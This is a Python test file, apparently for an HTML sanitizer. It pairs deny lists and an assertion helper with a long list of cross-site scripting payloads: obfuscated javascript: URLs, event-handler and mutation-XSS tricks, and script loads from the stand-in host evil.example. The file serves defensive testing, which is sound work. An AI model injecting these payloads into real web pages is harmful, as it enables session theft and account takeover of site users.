"""Hostile HTML, and what none of it may become."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html import unescape
from xml.etree.ElementTree import Element

import html5lib

NEVER = {
    "applet", "base", "button", "embed", "form", "frame", "frameset", "iframe", "input", "link", "math", "meta",
    "noscript", "object", "script", "select", "style", "svg", "template", "textarea", "title", "xmp",
}  # fmt: skip
ADDRESSES = {"action", "background", "cite", "data", "formaction", "href", "poster", "src", "xlink:href"}
SCHEMES = {"geo", "http", "https", "mailto", "matrix", "sms", "tel", "webcal", "xmpp"}


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Yield what a browser would make of the HTML, by a parser that the code under test does not share."""
    fragment: Element = html5lib.parseFragment(html, namespaceHTMLElements=False)
    for element in fragment.iter():
        yield str(element.tag), {str(name): value for name, value in element.attrib.items()}


def assert_harmless(html: str) -> None:
    for tag, attributes in list(elements(html))[1:]:
        assert tag not in NEVER
        assert re.fullmatch(r"(at-|fn).+", attributes.get("id", "at-x"))
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in {"srcset", "style", "srcdoc"}
            if name in ADDRESSES:
                head = "".join(unescape(value).split()).lower().split("/")[0].split("?")[0].split("#")[0]
                assert ":" not in head or head.split(":")[0] in SCHEMES


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<p ONCLICK=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&#58;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript:123">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="java\u00adscript:alert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://example.org/x">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<q cite="data:text/html,x">x</q>',
    '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<!-- <img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>",
    "<form action=javascript:alert(1)><form><input type=submit formaction=javascript:alert(1)>",
    "<img srcset='//evil.example/x 1x' src=/a.png>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x",
    "<a href='http://a.example' ping='//evil.example' target=_blank download>x</a>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<b \x00onclick=alert(1)>x</b>",
    "<p id=login class='post admin' data-x=1 tabindex=1 contenteditable>x</p>",
]
